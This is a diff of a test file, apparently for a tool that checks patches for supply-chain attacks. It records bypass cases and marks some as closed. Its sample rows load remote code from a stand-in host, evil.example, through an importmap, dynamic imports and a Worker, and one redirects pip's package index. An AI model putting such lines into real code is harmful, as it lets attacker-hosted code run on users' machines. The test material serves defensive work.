@@ -1,5 +1,5 @@
 import { describe, it } from 'vitest';
-import { describeFindings, expectAccepted, type FindingRow } from '../support/patches.js';
+import { closedRows, describeFindings, expectAccepted, type FindingRow } from '../support/patches.js';
 
 /**
  * Attack 48 (session 45, after the one-table-per-manager refactor): patches the check ACCEPTS although the code they add
@@ -114,7 +114,8 @@ const DECODED_AND_RUN: FindingRow[] = [
 // variable on the same line.
 const MODULES_FROM_A_HOST: FindingRow[] = [
   ['src/index.html', '<script type="importmap">{"imports": {"react": "https://evil.example/react.js"}}</script>'],
-  ['src/app.js', "import('//evil.example/x.js')"],
+  // Closed by G's rule (session 45): a protocol-relative import's path starts with `/`, outside the repository.
+  ['src/app.js', "import('//evil.example/x.js')", 'closed'],
   ['src/app.js', "const w = new Worker('//evil.example/w.js')"],
   ['src/app.js', "await import(/* @vite-ignore */ 'https://evil.example/x.js')"],
   ['src/app.js', "const m = await import(new URL('https://evil.example/x.js').href)"],
@@ -410,7 +411,7 @@ const DOCTESTS_CONFIGURE: FindingRow[] = [
   ['README.md', "```python\n>>> import os; os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'\n```"],
 ];
 
-// G (next fix; high where the outside path holds code another job, step or fork run left there — a self-hosted runner's
+// G (closed in session 45; high where the outside path holds code another job, step or fork run left there — a self-hosted runner's
 // /tmp, $HOME, the workspace's parent where other checkouts live): an allowed verb told to run a project outside the
 // checked-out repository, by an absolute path, `..`, `~`, an environment variable, a changed directory (`cd`, `cwd=`,
 // `os.chdir`), or its options: npm `--prefix`/`-C`, pnpm `--dir`, yarn `--cwd`, cargo `--manifest-path`, go `-C`,
@@ -522,7 +523,8 @@ describeFindings('attack-48', [
   ['N windows', WINDOWS],
   ['P other managers not listed', OTHER_MANAGERS_NOT_LISTED],
   ['O doctests configure', DOCTESTS_CONFIGURE],
-  ['G outside the repository', OUTSIDE_THE_REPOSITORY],
+  // Closed in session 45 (test/attack/patch-48g-outside.test.ts: the rule, its reasons and what stays accepted).
+  ['G outside the repository', closedRows(OUTSIDE_THE_REPOSITORY)],
 ]);
 
 /**
